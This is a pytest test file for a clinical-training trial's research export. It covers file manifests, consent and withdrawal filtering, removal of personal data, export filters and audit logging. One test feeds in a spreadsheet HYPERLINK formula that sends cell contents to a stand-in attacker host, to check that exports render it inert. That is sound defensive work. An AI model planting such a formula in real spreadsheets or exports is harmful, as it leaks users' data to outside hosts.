"""The export archive: its files, the manifest, privacy, withdrawal, filters and the audit log."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from course.assessments.models import QuizAttempt
from course.audit.models import AuditEntry
from course.extensions import db

FILES = {
    "participants.csv",
    "consort.csv",
    "module_progress.csv",
    "quiz_attempts.csv",
    "quiz_responses.csv",
    "video_engagement.csv",
    "consultations.csv",
    "workshop_attendance.csv",
    "survey_responses.csv",
    "scenario_choices.csv",
    "drill_responses.csv",
    "feedback_reviews.csv",
    "discussion_participation.csv",
    "discussion_posts.csv",
    "events.csv",
    "integrity_log.csv",
    "data_dictionary.csv",
    "redcap_import.csv",
    "xapi.jsonl",
    "codebook.csv",
    "missing_reasons.csv",
    "load.R",
    "load.do",
    "datapackage.json",
    "manifest.json",
}


def rows(files, name):
    return list(csv.DictReader(io.StringIO(files[name].decode("utf-8"))))


@pytest.fixture
def trial(make_user, seed_activity, course):
    """Two consenting therapists with activity, one who declined, one outside the trial."""
    make_user("trainer", name="Terry Trainer")
    people = {
        "a": make_user(
            "therapist", arm="self_paced", name="Alice Ashdown", email="alice@example.org"
        ),
        "b": make_user("therapist", arm="control", name="Bob Birchwood", email="bob@example.org"),
        "declined": make_user(
            "therapist", arm="workshop", consent=False, name="Dee Decliner", email="dee@example.org"
        ),
        "open": make_user("therapist", arm="open", name="Olive Open", email="olive@example.org"),
    }
    for user in people.values():
        seed_activity(user, free_text=f"My colleague {user.name} liked it.")
    return people


def _decline(app, user):
    from course import clock
    from course.research.models import ConsentRecord

    with app.app_context():
        db.session.add(
            ConsentRecord(user_id=user.id, version="1", decision="declined", at=clock.now_utc())
        )
        db.session.commit()


def test_the_archive_holds_every_file_with_a_matching_manifest(app, trial, export_zip):
    files = export_zip()
    assert set(files) == FILES
    manifest = json.loads(files["manifest.json"])
    assert manifest["generated_at"].endswith("Z")
    assert manifest["filters"] == {
        "arm": None,
        "from": None,
        "to": None,
        "since": None,
        "include_free_text": False,
    }
    for name, info in manifest["files"].items():
        assert hashlib.sha256(files[name]).hexdigest() == info["sha256"]
        assert len(files[name]) == info["bytes"]
        if name.endswith(".csv"):
            assert len(rows(files, name)) == info["rows"] == manifest["rows"][name]
    assert manifest["rows"]["xapi.jsonl"] == len(files["xapi.jsonl"].splitlines())
    hashes = {m["module"]: m["content_hash"] for m in manifest["content"]["modules"]}
    assert set(hashes) == {"intro", "next"} and all(len(h) == 64 for h in hashes.values())
    assert manifest["content"]["course_file"]["content_hash"]


def test_only_consenting_therapists_appear_with_their_activity(app, trial, export_zip):
    files = export_zip()
    people = rows(files, "participants.csv")
    assert {p["study_id"] for p in people} == {trial["a"].study_id, trial["b"].study_id}
    a = next(p for p in people if p["study_id"] == trial["a"].study_id)
    assert a["arm"] == "self_paced" and a["consent_version"] == "1"
    assert a["modules_completed"] == "1" and a["active_seconds"] == "300"
    assert a["quiz_attempts"] == "1" and a["consultations_attended"] == "1"
    assert a["surveys_submitted"] == "1" and a["registered_at"].endswith("Z")
    included = {trial["a"].study_id, trial["b"].study_id}
    for name in (
        "module_progress.csv",
        "quiz_attempts.csv",
        "quiz_responses.csv",
        "video_engagement.csv",
        "consultations.csv",
        "survey_responses.csv",
        "events.csv",
    ):
        found = {r["study_id"] for r in rows(files, name)}
        assert found == included, name
    events = rows(files, "events.csv")
    assert len(events) == 14 and {e["type"] for e in events} >= {"active", "play", "seek", "ended"}
    video = rows(files, "video_engagement.csv")[0]
    assert video["watched_percent"] == "70" and video["watched_segments"] == "0-5;8-10"
    assert (video["plays"], video["pauses"], video["seeks"], video["ended"]) == ("1", "1", "1", "1")
    attempt = rows(files, "quiz_attempts.csv")[0]
    assert (
        attempt["score"] == "50"
        and attempt["passed"] == "0"
        and attempt["duration_seconds"] == "120"
    )
    consult = rows(files, "consultations.csv")[0]
    assert consult["attendance"] == "attended" and consult["duration_seconds"] == "3600"
    consort = {(r["stage"], r["arm"]): int(r["count"]) for r in rows(files, "consort.csv")}
    assert consort[("consented", "all")] == 2 and consort[("randomized", "self_paced")] == 1


def test_quiz_items_carry_their_score_partial_or_from_before_partial_credit(app, trial, export_zip):
    with app.app_context():
        partial = db.session.scalar(
            db.select(QuizAttempt).where(QuizAttempt.user_id == trial["a"].id)
        )
        partial.points, partial.score = {"marker": 1.0, "repair": 0.5}, 75.0
        partial.correct = {"marker": True, "repair": False}
        db.session.commit()
        partial_id = str(partial.id)
    files = export_zip()
    attempts = {r["attempt_id"]: r for r in rows(files, "quiz_attempts.csv")}
    assert len(attempts) == 2
    for attempt_id, attempt in attempts.items():
        wanted = ("1.5", "1", "75") if attempt_id == partial_id else ("1", "1", "50")
        assert (attempt["points"], attempt["correct"], attempt["score"]) == wanted
    items = {
        (r["attempt_id"], r["question_id"]): (r["correct"], r["item_score"])
        for r in rows(files, "quiz_responses.csv")
    }
    old_id = next(a for a in attempts if a != partial_id)
    assert items == {
        (partial_id, "marker"): ("1", "1"),
        (partial_id, "repair"): ("0", "0.5"),
        (old_id, "marker"): ("1", "1"),  # graded right or wrong: 1 or 0
        (old_id, "repair"): ("0", "0"),
    }
    statements = [json.loads(line) for line in files["xapi.jsonl"].decode().splitlines()]
    answered = next(
        s for s in statements
        if s["verb"]["id"].endswith("/answered") and s["object"]["id"].endswith("quiz#repair")
        and s["result"]["score"]["raw"] == 0.5
    )  # fmt: skip
    assert answered["result"]["score"] == {"scaled": 0.5, "raw": 0.5, "min": 0, "max": 1}
    assert answered["result"]["success"] is False


def test_no_name_email_address_or_free_text_anywhere_in_the_archive(app, trial, export_zip):
    files = export_zip()
    with app.app_context():
        ips = {ip for ip in db.session.scalars(db.select(AuditEntry.ip)) if ip}
    assert ips  # sign-ins recorded an address, so the search below means something
    forbidden = [
        "Alice",
        "Ashdown",
        "Bob Birchwood",
        "Dee Decliner",
        "Olive",
        "Terry Trainer",
        "Riley Researcher",
        "@example.org",
        "example.org",
        "My colleague",
        "Secretnote",
        *ips,
    ]
    for name, data in files.items():
        text = data.decode("utf-8")
        for word in forbidden:
            assert word not in text, f"{word!r} found in {name}"


def test_free_text_is_included_only_when_asked(app, trial, export_zip):
    files = export_zip(include_free_text="y")
    answers = [r for r in rows(files, "survey_responses.csv") if r["variable"] == "open_use"]
    assert {r["value"] for r in answers} == {
        "My colleague Alice Ashdown liked it.",
        "My colleague Bob Birchwood liked it.",
    }
    assert "open_use" in rows(files, "redcap_import.csv")[0]
    assert json.loads(files["manifest.json"])["filters"]["include_free_text"] is True


def test_a_free_text_answer_starting_like_a_formula_is_exported_inert(
    app, make_user, seed_activity, course, export_zip
):
    formula = '=HYPERLINK("http://evil.example/"&A1,"Click")'
    seed_activity(make_user("therapist", arm="self_paced"), free_text=formula)
    files = export_zip(include_free_text="y")
    (answer,) = [r for r in rows(files, "survey_responses.csv") if r["variable"] == "open_use"]
    assert answer["value"] == "'" + formula


def test_a_withdrawn_therapist_disappears_from_the_next_export(
    app, client, csrf, login, trial, export_zip
):
    before = export_zip()
    alice = trial["a"].study_id
    assert alice in before["participants.csv"].decode()
    client.post("/auth/logout", data={"csrf_token": csrf(client)})
    login(trial["a"])
    response = client.post(
        "/research/consent/withdraw", data={"csrf_token": csrf(client), "confirm": "y"}
    )
    assert response.status_code == 302
    client.post("/auth/logout", data={"csrf_token": csrf(client)})
    after = export_zip()
    for name, data in after.items():
        if name != "manifest.json":
            assert alice not in data.decode(), name
    consort = {(r["stage"], r["arm"]): int(r["count"]) for r in rows(after, "consort.csv")}
    assert consort[("withdrawn", "self_paced")] == 1  # counted in the flow, never as data
    assert alice in before["participants.csv"].decode()  # earlier exports are not recalled


def test_a_therapist_who_declines_a_new_version_is_left_out(app, trial, export_zip):
    _decline(app, trial["b"])
    people = rows(export_zip(), "participants.csv")
    assert [p["study_id"] for p in people] == [trial["a"].study_id]


def test_filters_by_arm_date_and_since(app, trial, export_zip, seed_activity, make_user):
    late = make_user("therapist", arm="self_paced")
    seed_activity(late, days_ago=0)
    by_arm = export_zip(arm="control")
    assert {r["study_id"] for r in rows(by_arm, "events.csv")} == {trial["b"].study_id}
    from course import clock

    today = clock.now_utc().date().isoformat()
    recent = export_zip(start=today)
    assert {r["study_id"] for r in rows(recent, "events.csv")} == {late.study_id}
    assert len(rows(recent, "participants.csv")) == 3  # people are listed whatever the dates
    since = export_zip(since=today + "T00:00:00Z")
    assert {r["study_id"] for r in rows(since, "quiz_attempts.csv")} == {late.study_id}
    assert json.loads(since["manifest.json"])["filters"]["since"] == today + "T00:00:00Z"


@pytest.mark.parametrize(
    ("form", "message"),
    [
        ({"since": "last tuesday"}, "since: write a UTC time"),
        ({"start": "2026-03-02", "end": "2026-03-01"}, "after the"),
        ({"arm": "placebo"}, "Not a valid choice"),
    ],
)
def test_bad_filters_on_the_page_explain_and_export_nothing(
    app, client, login, csrf, researcher, course, form, message
):
    login(researcher)
    response = client.post("/research/exports", data={"csrf_token": csrf(client), **form})
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    with app.app_context():
        assert (
            db.session.scalar(
                db.select(AuditEntry.id).where(AuditEntry.action == "research.exported")
            )
            is None
        )


def test_every_export_is_audit_logged_with_who_filters_and_rows(
    app, client, trial, export_zip, researcher
):
    export_zip(arm="self_paced")
    with app.app_context():
        entry = db.session.scalar(
            db.select(AuditEntry).where(AuditEntry.action == "research.exported")
        )
        assert entry.actor_id == researcher.id and entry.details["via"] == "web"
        assert entry.details["filters"]["arm"] == "self_paced"
        assert entry.details["rows"]["participants.csv"] == 1
        assert entry.details["rows"]["events.csv"] == 7
    page = client.get("/research/exports").get_data(as_text=True)
    assert researcher.study_id in page and "arm: self_paced" in page


def test_the_cli_writes_the_same_files_and_is_logged(app, runner, trial, tmp_path, export_zip):
    web = export_zip()
    result = runner.invoke(args=["research", "export", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    written = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    assert set(written) == set(web)
    # The manifest and the data package carry the moment each export was made.
    for name in FILES - {"manifest.json", "consort.csv", "datapackage.json"}:
        assert written[name] == web[name], name
    with app.app_context():
        vias = db.session.scalars(
            db.select(AuditEntry.details).where(AuditEntry.action == "research.exported")
        ).all()
        assert sorted(d["via"] for d in vias) == ["cli", "web"]
    zipped = runner.invoke(
        args=["research", "export", str(tmp_path / "z"), "--zip", "--arm", "control"]
    )
    assert zipped.exit_code == 0 and (tmp_path / "z" / "research-export.zip").is_file()
    bad = runner.invoke(args=["research", "export", str(tmp_path / "x"), "--from", "soon"])
    assert bad.exit_code != 0 and "YYYY-MM-DD" in bad.output


@pytest.mark.parametrize("role", ["therapist", "trainer", "admin"])
def test_only_researchers_export(client, make_user, login, csrf, role):
    login(make_user(role))
    assert client.get("/research/exports").status_code == 403
    assert client.post("/research/exports", data={"csrf_token": csrf(client)}).status_code == 403


def test_an_export_with_no_course_and_no_people_still_has_every_file(export_zip):
    files = export_zip()
    assert set(files) == FILES
    assert rows(files, "participants.csv") == []
    assert rows(files, "data_dictionary.csv")[0]["Variable / Field Name"] == "record_id"


def test_a_cut_batch_flags_its_participant_and_is_listed_in_the_integrity_log(
    app, trial, export_zip
):
    from datetime import timedelta

    from course import clock
    from course.catalog.models import Module
    from course.learning.models import IntegrityEvent

    now = clock.now_utc()
    with app.app_context():
        revision = db.session.scalar(db.select(Module).where(Module.slug == "intro")).published
        db.session.add(
            IntegrityEvent(
                user_id=trial["a"].id,
                module_revision_id=revision.id,
                kind="active",
                claimed=24000,
                credited=60,
                events=200,
                first_event_at=now - timedelta(minutes=1),
                last_event_at=now,
                received_at=now,
            )
        )
        db.session.commit()
    files = export_zip()
    flags = {p["study_id"]: p for p in rows(files, "participants.csv")}
    assert flags[trial["a"].study_id]["integrity_flag"] == "1"
    assert flags[trial["a"].study_id]["active_seconds_cut"] == "23940"
    assert flags[trial["b"].study_id]["integrity_flag"] == "0"
    (cut,) = rows(files, "integrity_log.csv")
    assert cut["study_id"] == trial["a"].study_id and cut["module"] == "intro"
    assert (cut["kind"], cut["claimed_seconds"], cut["credited_seconds"]) == (
        "active",
        "24000",
        "60",
    )


def test_the_exports_say_whether_a_video_was_watched_or_its_transcript_read(app, trial, export_zip):
    from datetime import timedelta

    from course import clock
    from course.catalog.models import Module
    from course.learning.models import IntegrityEvent, ModuleProgress, VideoProgress

    now = clock.now_utc()
    with app.app_context():
        module = db.session.scalar(db.select(Module).where(Module.slug == "intro"))
        progress = db.session.scalar(
            db.select(ModuleProgress).where(
                ModuleProgress.user_id == trial["a"].id, ModuleProgress.module_id == module.id
            )
        )
        progress.video_met_by = "transcript"
        video = db.session.scalar(
            db.select(VideoProgress).where(VideoProgress.user_id == trial["a"].id)
        )
        video.transcript_seconds = 42.5
        db.session.add(
            IntegrityEvent(
                user_id=trial["a"].id,
                module_revision_id=module.published.id,
                kind="transcript",
                claimed=1200,
                credited=60,
                events=10,
                first_event_at=now - timedelta(minutes=1),
                last_event_at=now,
                received_at=now,
            )
        )
        db.session.commit()
    files = export_zip()
    a = trial["a"].study_id
    (mine,) = [r for r in rows(files, "module_progress.csv") if r["study_id"] == a]
    assert mine["completed"] == "1" and mine["video_met_by"] == "transcript"
    others = [r["video_met_by"] for r in rows(files, "module_progress.csv") if r["study_id"] != a]
    assert set(others) <= {""}
    (watched,) = [r for r in rows(files, "video_engagement.csv") if r["study_id"] == a]
    assert watched["transcript_seconds"] == "42.5"
    (cut,) = rows(files, "integrity_log.csv")
    assert (cut["kind"], cut["claimed_seconds"], cut["credited_seconds"]) == (
        "transcript",
        "1200",
        "60",
    )
    flags = {p["study_id"]: p for p in rows(files, "participants.csv")}
    assert flags[a]["integrity_flag"] == "1" and flags[a]["active_seconds_cut"] == "1140"
